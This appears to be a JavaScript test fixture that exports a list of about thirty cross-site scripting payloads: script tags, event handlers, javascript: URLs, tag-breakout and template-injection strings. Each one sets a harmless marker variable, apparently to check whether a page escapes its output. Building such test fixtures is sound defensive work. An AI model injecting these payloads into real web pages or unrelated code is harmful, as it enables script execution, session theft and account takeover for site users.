// Texts that run as a script in a page that does not escape them. Each would set the window's stolen.
const run = 'window.stolen=1';

export const payloads = [
  `<script>${run}</script>`, `<img src=x onerror="${run}">`, `<svg onload=${run}>`, `"><script>${run}</script>`, `'><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `<!--><script>${run}</script>-->`,
  `<iframe src="javascript:parent.${run}">`, `<a href="javascript:${run}">a</a>`, `javascript:${run}`, `<body onload=${run}>`, `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<math><mtext><img src=x onerror=${run}>`, `<template><script>${run}</script></template>`,
  `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`, `<form action="javascript:${run}"><button>a</button></form>`, `<link rel=stylesheet href="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `" onmouseover="${run}" x="`, `<svg><animate onbegin=${run} attributeName=x>`,
  `<img srcset=x onerror=${run}>\u2028<script>${run}</script>`,
];
